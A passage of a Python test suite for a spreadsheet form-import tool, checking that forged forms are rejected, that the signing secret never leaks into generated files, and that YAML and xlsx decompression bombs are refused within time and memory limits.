            session, load_program(session, "demo-city"), [tmp_path / "forged.xlsx"],
            morning(date(2024, 6, 20)))
    assert results == [] and any("签名不符" in p.message for p in problems)
    assert db_snapshot(url) == before
    court = load_workbook(files["court"])
    for row in court.worksheets[0].iter_rows(min_row=6):
        if row[0].value:
            row[7].value = "已完成"
    court.save(files["court"])
    with wired.transaction() as session:
        results, problems = import_forms(session, load_program(session, "demo-city"), [files["court"]],
                                         morning(date(2024, 6, 21)))
    assert [r["unit"] for r in results] == ["court"], [str(p) for p in problems]


def test_the_signing_secret_is_never_in_a_form_or_an_artifact(tmp_path):
    wired = imported(tmp_path)
    with wired.transaction() as session:
        written = write_forms(session, load_program(session, "demo-city"), tmp_path / "forms")
        secret = session.execute(text("SELECT value FROM installation_secrets")).scalar_one()
    for w in written:
        with zipfile.ZipFile(w["file"]) as archive:
            assert not any(secret.encode() in archive.read(n) for n in archive.namelist())


# ---------------------------------------------------------------- 11. bombs within seconds and ~200 MB

BOMB_RUNNER = """
import re, sys, time
from pathlib import Path
from schedule import read_plan
from notifications import read_form
started = time.process_time()  # CPU time: a loaded machine must not fail the test
kind, path = sys.argv[1], Path(sys.argv[2])
if kind == "plan":
    problems = [str(p) for p in read_plan(path).problems]
else:
    problems = [str(p) for p in read_form(path).problems]
# The peak of this program's own memory (VmHWM starts afresh at exec; ru_maxrss keeps the forking parent's).
peak = int(re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text()).group(1))
print(round(time.process_time() - started, 2), peak // 1024, problems)
"""


def _refused_within_limits(kind: str, path: Path, words: str) -> tuple[float, int]:
    run = subprocess.run([sys.executable, "-c", BOMB_RUNNER, kind, str(path)], capture_output=True, text=True,
                         timeout=120, cwd=Path(__file__).parent.parent)
    assert run.returncode == 0, run.stderr[-2000:]
    seconds, megabytes, problems = run.stdout.split(" ", 2)
    assert words in problems, problems
    return float(seconds), int(megabytes)


@pytest.mark.parametrize("spoil, kind, words", [
    pytest.param(_alias_bomb, "plan", "别名展开后", id="yaml-alias-bomb"),
    pytest.param(_tasks_bomb, "plan", "解压后过大", id="xlsx-bomb-in-tasks"),
    pytest.param(_huge_csv, "plan", "CSV 文件过大", id="csv-past-the-limit"),
    pytest.param(None, "form", "解压后过大", id="xlsx-bomb-as-selfcheck-form")])
def test_a_bomb_is_refused_within_seconds_and_200_mb(tmp_path, spoil, kind, words):
    if kind == "plan":
        target = write_plan(tmp_path)
        spoil(target)
    else:
        target = tmp_path / "demo-city-selfcheck-court.xlsx"
        _xlsx_bomb(target)
    seconds, megabytes = _refused_within_limits(kind, target, words)
    # Python with pandas, openpyxl and SQLAlchemy imported is about 100 MB before it reads anything; the
    # seconds are CPU seconds, which other work on the machine does not inflate.
    assert seconds < 15 and megabytes < 250, (seconds, megabytes)
